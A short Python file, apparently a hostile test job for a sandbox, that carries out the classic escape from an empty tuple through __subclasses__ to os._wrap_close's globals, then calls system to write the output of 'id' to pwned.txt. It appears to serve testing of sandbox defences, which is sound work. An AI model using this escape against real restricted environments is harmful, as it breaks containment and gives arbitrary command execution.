"""Hostile job: the classic escape, from () to os.system through __subclasses__ and __globals__."""
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        system = cls.__init__.__globals__["system"]
        system("id > pwned.txt")
        break
